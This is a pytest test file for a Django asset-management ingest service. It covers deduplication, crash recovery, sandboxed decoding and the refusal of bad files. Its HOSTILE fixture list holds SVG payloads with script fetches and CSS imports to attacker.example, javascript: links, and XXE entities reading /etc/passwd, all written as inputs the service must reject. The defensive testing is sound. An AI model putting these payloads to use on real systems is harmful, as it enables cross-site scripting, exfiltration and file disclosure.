"""Files come in: once each, looked at from a distance, with a row that says what became of them."""

from __future__ import annotations

import os

import pytest

from dam import services
from dam.imaging import sandbox
from dam.models import Asset, AssetVersion, IngestFile
from dam.services import ingesting
from foundation.blobs.models import Blob
from foundation.core.errors import Denied, Invalid
from foundation.events.models import OutboxEvent
from foundation.jobs.models import Job
from foundation.jobs.running import run_due_jobs, run_job
from foundation.workflow.models import WorkItem

from . import factories

pytestmark = pytest.mark.django_db


def outcome(ingest) -> dict[str, tuple[str, str]]:
    return {file.path: (file.state, file.code) for file in ingest.files.all()}


def test_a_folder_comes_in(tmp_path, photographer):
    folder = factories.write_files(
        tmp_path,
        {"a.jpg": factories.jpeg(seed=1), "sub/b.png": factories.png(factories.quarters(seed=2)), ".hidden": b"x"},
    )
    ingest = services.ingest_folder(folder, actor=photographer)
    run_due_jobs()
    assert outcome(ingest) == {"a.jpg": ("ingested", ""), "sub/b.png": ("ingested", "")}
    asset = Asset.objects.get(title="b")
    version = asset.current_version
    assert (asset.kind, asset.state, version.number, version.state) == ("image", "draft", 1, "draft")
    assert (version.filename, version.media_type, version.width, version.height) == ("b.png", "image/png", 320, 200)
    assert Job.objects.get(pk=ingest.job_id).result == {"ingested": 2, "duplicate": 0, "refused": 0}


def test_the_same_bytes_under_another_name_are_one_asset(photographer):
    content = factories.jpeg(seed=3)
    ingest = factories.ingest_files({"a.jpg": content, "Kopie von a.jpg": content}, actor=photographer)
    assert outcome(ingest) == {"a.jpg": ("ingested", ""), "Kopie von a.jpg": ("duplicate", "same-bytes")}
    again = factories.ingest_files({"c.jpg": content}, actor=photographer)
    assert outcome(again) == {"c.jpg": ("duplicate", "same-bytes")}
    assert Asset.objects.count() == 1
    assert {file.asset_id for file in IngestFile.objects.all()} == {Asset.objects.get().pk}


def test_the_same_picture_with_other_metadata_is_a_question(photographer):
    content = factories.jpeg(seed=4)
    other = factories.with_xmp(content, xmp={"Xmp.photoshop.Credit": "Agency re-delivery"})
    ingest = factories.ingest_files({"a.jpg": content, "b.jpg": other}, actor=photographer)
    assert outcome(ingest)["b.jpg"] == ("duplicate", "same-pixels")
    asset = Asset.objects.get()
    item = WorkItem.objects.get(kind="same-picture")
    assert (item.subject, item.detail["described"]) == (asset.uid, {"credit": "Agency re-delivery"})

    factories.ingest_files({"b.jpg": other}, actor=photographer)
    assert WorkItem.objects.filter(kind="same-picture").count() == 1

    version = services.add_version(asset, sha256=item.detail["sha256"], filename="b.jpg", actor=photographer)
    assert version.number == 2
    item.refresh_from_db()
    assert item.outcome == "added as a version"


HOSTILE = {
    "truncated.jpg": (factories.jpeg(factories.quarters(1600, 1200))[:9000], "truncated"),
    "truncated.png": (factories.png(factories.quarters(1600, 1200))[:2500], "truncated"),
    "bomb.png": (factories.bomb(), "decompression-bomb"),
    "notes.jpg": (b"Retouch list: remove the thread on the left cuff.\n" * 8, "not-an-image"),
    "empty.jpg": (b"", "empty"),
    "page.jpg": (b"<!DOCTYPE html><html><body><script>1</script></body></html>", "not-an-image"),
    "archive.jpg": (b"PK\x03\x04" + bytes(100), "unsupported"),
    "noise.png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "damaged"),
    "script.svg": (factories.svg("<script>fetch('//attacker.example')</script>"), "active-content"),
    "handler.svg": (factories.svg('<rect width="9" height="9" onload="x()"/>'), "active-content"),
    "outside.svg": (factories.svg('<image href="https://attacker.example/a.png"/>'), "active-content"),
    "xlink.svg": (factories.svg('<use xlink:href="file:///etc/passwd#a"/>'), "active-content"),
    "css.svg": (factories.svg('<style>@import "//attacker.example/a.css";</style>'), "active-content"),
    "url.svg": (factories.svg('<rect fill="url(http://attacker.example/)"/>'), "active-content"),
    "foreign.svg": (factories.svg("<foreignObject/>"), "active-content"),
    "link.svg": (factories.svg('<a href="javascript:x()"><text>a</text></a>'), "active-content"),
    "animated.svg": (factories.svg('<a><set attributeName="xlink:href" to="javascript:x()"/></a>'), "active-content"),
    "entity.svg": (
        factories.svg("<text>&a;</text>", head='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        "active-content",
    ),
    "sheet.svg": (factories.svg("", head='<?xml-stylesheet href="//attacker.example/a.css"?>'), "active-content"),
}


def test_hostile_files_are_refused_with_a_reason_and_the_rest_goes_on(photographer):
    files = {name: content for name, (content, _) in HOSTILE.items()}
    ingest = factories.ingest_files({**files, "sound.jpg": factories.jpeg(seed=5)}, actor=photographer)
    expected = {name: ("refused", code) for name, (_, code) in HOSTILE.items()}
    assert outcome(ingest) == {**expected, "sound.jpg": ("ingested", "")}
    assert not ingest.files.refused().filter(reason="").exists()
    assert Asset.objects.count() == 1
    # the bytes are kept in quarantine: a row points at them, no version does
    assert Blob.objects.filter(pk__in=ingest.files.refused().values("blob")).count() == len(HOSTILE)
    assert AssetVersion.objects.count() == 1
    refusals = OutboxEvent.objects.filter(type="dam.ingest.refused", subject=ingest.uid)
    assert {event.data["path"]: event.data["code"] for event in refusals} == {
        name: code for name, (_, code) in HOSTILE.items()
    }


def test_refusals_are_a_work_item_per_delivery(photographer):
    ingest = factories.ingest_files({"notes.jpg": b"no picture"}, actor=photographer)
    item = WorkItem.objects.get(queue__code="ingest", kind="refused-files")
    assert (item.cause_key, item.detail["files"][0]["code"]) == (f"ingest:{ingest.job.uid}", "not-an-image")
    factories.ingest_files({"sound.jpg": factories.jpeg(seed=6)}, actor=photographer)
    assert WorkItem.objects.count() == 1


def test_still_drawings_come_in(photographer):
    drawing = factories.svg('<defs><g id="a"><circle r="9"/></g></defs><use href="#a"/>', head='<?xml version="1.0"?>')
    ingest = factories.ingest_files({"logo.svg": drawing}, actor=photographer)
    assert outcome(ingest) == {"logo.svg": ("ingested", "")}
    assert Asset.objects.get().kind == "graphic"


def test_the_type_is_told_by_content(photographer):
    ingest = factories.ingest_files({"lies.png": factories.jpeg(seed=7)}, actor=photographer)
    assert outcome(ingest) == {"lies.png": ("ingested", "")}
    assert AssetVersion.objects.get().media_type == "image/jpeg"


def test_a_run_that_died_goes_on_without_doubles(tmp_path, photographer, monkeypatch):
    files = {f"{number}.jpg": factories.jpeg(seed=number) for number in range(1, 7)}
    ingest = services.ingest_folder(factories.write_files(tmp_path, files), actor=photographer)
    real, seen = ingesting._take_in, []

    def die_at_the_third(file, *args):
        seen.append(file.path)
        if len(seen) == 3:
            raise KeyboardInterrupt  # as a killed worker: nothing after this line runs
        real(file, *args)

    monkeypatch.setattr(ingesting, "_take_in", die_at_the_third)
    with pytest.raises(KeyboardInterrupt):
        run_job(ingest.job_id, heartbeat=False)
    assert Asset.objects.count() == 2
    Job.objects.filter(pk=ingest.job_id).update(lease_until=None)
    monkeypatch.setattr(ingesting, "_take_in", real)
    run_due_jobs()
    assert set(outcome(ingest).values()) == {("ingested", "")}
    assert (Asset.objects.count(), AssetVersion.objects.count()) == (6, 6)
    job = Job.objects.get(pk=ingest.job_id)
    assert (job.state, job.done, job.total, job.attempt) == ("done", 6, 6, 2)
    ingested = OutboxEvent.objects.filter(type="dam.asset.ingested")
    assert len({event.subject for event in ingested}) == ingested.count() == 6


@pytest.mark.kills
def test_a_decoder_that_is_killed_refuses_the_file_and_harms_nothing(photographer, monkeypatch):
    """Both the warm child and the fresh one die on this file; the next file meets a living one."""
    real = sandbox._read_line

    def killed(handle, deadline):
        if asked and asked[-1]:
            for child in children:
                child.process.kill()
        return real(handle, deadline)

    asked: list[bool] = []
    children: list[sandbox.Sandbox] = []
    ask = sandbox.Sandbox.ask

    def watch(self, request, *, seconds):
        asked.append(request["path"].endswith(fatal))
        children[:] = [self]
        return ask(self, request, seconds=seconds)

    fatal_content = factories.jpeg(factories.quarters(3000, 2000, seed=9))
    fatal = __import__("hashlib").sha256(fatal_content).hexdigest()
    monkeypatch.setattr(sandbox.Sandbox, "ask", watch)
    monkeypatch.setattr(sandbox, "_read_line", killed)
    ingest = factories.ingest_files({"a.jpg": fatal_content, "b.jpg": factories.jpeg(seed=10)}, actor=photographer)
    assert outcome(ingest) == {"a.jpg": ("refused", "decoder-died"), "b.jpg": ("ingested", "")}


def test_a_file_that_takes_too_long_is_refused(tmp_path):
    path = tmp_path / "a.jpg"
    path.write_bytes(factories.jpeg(factories.quarters(3000, 2000)))
    with pytest.raises(sandbox.Refusal) as refusal:
        sandbox.inspect_file(path, seconds=0.0001)
    assert refusal.value.code == "too-slow"
    assert sandbox.inspect_file(path)["width"] == 3000


def test_the_child_sees_nothing_of_our_environment(monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "not for children")
    child = sandbox.Sandbox()
    try:
        with pytest.raises(sandbox.ChildFailed):
            child.ask({"do": "inspect", "path": "nowhere"}, seconds=60)
        with open(f"/proc/{child.process.pid}/environ", "rb") as environ:  # noqa: PTH123
            assert b"SECRET_KEY" not in environ.read()
    finally:
        child.close()


def test_names_that_are_no_text_come_in(tmp_path, photographer):
    (tmp_path / os.fsdecode(b"caf\xe9.jpg")).write_bytes(factories.jpeg(seed=11))
    ingest = services.ingest_folder(tmp_path, actor=photographer)
    run_due_jobs()
    assert outcome(ingest) == {"raw:caf%E9.jpg": ("ingested", "")}


def test_links_out_of_the_folder_are_left_alone(tmp_path, photographer):
    outside = tmp_path / "outside.jpg"
    outside.write_bytes(factories.jpeg(seed=12))
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "link.jpg").symlink_to(outside)
    (folder / "own.jpg").write_bytes(factories.jpeg(seed=13))
    ingest = services.ingest_folder(folder, actor=photographer)
    run_due_jobs()
    assert list(outcome(ingest)) == ["own.jpg"]


def test_an_ingest_may_bring_licence_and_markets(administrator):
    licence = factories.make_licence()
    factories.ingest_files({"a.jpg": factories.jpeg(seed=14)}, actor=administrator, licence=licence, markets=["DE"])
    asset = Asset.objects.get()
    assert asset.markets == ["DE"]
    assert asset.asset_licences.get().licence == licence


def test_only_who_may_ingests(tmp_path, merchant, photographer):
    with pytest.raises(Denied):
        services.ingest_folder(tmp_path, actor=merchant)
    with pytest.raises(Invalid):
        services.start_ingest([], actor=photographer)
    assert not Job.objects.exists()


def test_a_deleted_asset_may_come_in_anew(photographer):
    asset = factories.make_asset(seed=15)
    services.delete_asset(asset, actor=photographer)
    again = factories.make_asset(seed=15)
    assert again.pk != asset.pk
    assert Asset.objects.present().get() == again
